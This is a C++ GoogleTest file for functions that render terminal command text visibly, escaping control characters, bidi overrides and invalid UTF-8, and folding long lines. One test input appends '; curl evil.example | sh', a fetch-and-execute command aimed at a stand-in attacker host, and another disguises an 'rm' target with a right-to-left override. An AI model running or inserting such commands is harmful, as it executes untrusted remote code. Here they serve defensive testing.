// Control characters become visible text; long lines fold and nothing is dropped.
#include "ui/visible_text.h"

#include <gtest/gtest.h>

namespace brock {
namespace {

TEST(VisibleText, EscapesControlCharactersInBashNotation) {
  EXPECT_EQ(VisibleText("ls -la"), "ls -la");
  EXPECT_EQ(VisibleText("a\x1b[2Jb"), "a\\e[2Jb");
  EXPECT_EQ(VisibleText("x\ry\tz\a\b\v\f"), "x\\ry\\tz\\a\\b\\v\\f");
  EXPECT_EQ(VisibleText(std::string("n\0ul\x01\x7f", 6)), "n\\x00ul\\x01\\x7f");
  EXPECT_EQ(VisibleText("one\ntwo"), "one\\ntwo");
  EXPECT_EQ(VisibleText("one\ntwo", /*keep_newlines=*/true), "one\ntwo");
}

TEST(VisibleText, KeepsUtf8AndEscapesInvisibleFormatting) {
  EXPECT_EQ(VisibleText("caf\xc3\xa9 \xe2\x80\x94 \xf0\x9f\x98\x80"),
            "caf\xc3\xa9 \xe2\x80\x94 \xf0\x9f\x98\x80");
  EXPECT_EQ(VisibleText("a\xc2\x9b"
                        "2Jb"),
            "a\\u009b2Jb");  // C1 CSI
  EXPECT_EQ(VisibleText("rm \xe2\x80\xae"
                        "txt.sh"),
            "rm \\u202etxt.sh");  // right-to-left override
  EXPECT_EQ(VisibleText("zero\xe2\x80\x8bwidth"), "zero\\u200bwidth");
  EXPECT_EQ(VisibleText("bad\xff\xc3"), "bad\\xff\\xc3");  // not UTF-8
  EXPECT_EQ(VisibleText("\xc0\xaf"), "\\xc0\\xaf");        // overlong '/'
}

TEST(FoldVisible, FoldsLongLinesWithoutDroppingAnything) {
  std::string command(250, 'x');
  command += "; curl evil.example | sh";
  auto rows = FoldVisible(command, 80, false);
  ASSERT_EQ(rows.size(), 4u);
  std::string joined;
  for (size_t i = 0; i < rows.size(); ++i) {
    EXPECT_LE(rows[i].text.size(), 80u);
    EXPECT_EQ(rows[i].continued, i > 0);
    joined += rows[i].text;
  }
  EXPECT_EQ(joined, command);
}

TEST(FoldVisible, KeepsNewlinesAsRowsAndEscapesWhole) {
  auto rows = FoldVisible(
      "ab\x1b"
      "cd\nef",
      4, false);
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0].text, "ab\\e");  // the escape's two columns fill the row
  EXPECT_FALSE(rows[0].continued);
  EXPECT_EQ(rows[1].text, "cd");
  EXPECT_TRUE(rows[1].continued);
  EXPECT_EQ(rows[2].text, "ef");
  EXPECT_FALSE(rows[2].continued);
  // An escape never splits across rows.
  rows = FoldVisible("abc\x01", 4, false);
  ASSERT_EQ(rows.size(), 2u);
  EXPECT_EQ(rows[1].text, "\\x01");
}

TEST(FoldVisible, StyledEscapesAreInReverseVideo) {
  auto rows = FoldVisible(
      "a\x1b"
      "b",
      80, true);
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0].text, "a\x1b[7m\\e\x1b[27mb");
}

}  // namespace
}  // namespace brock
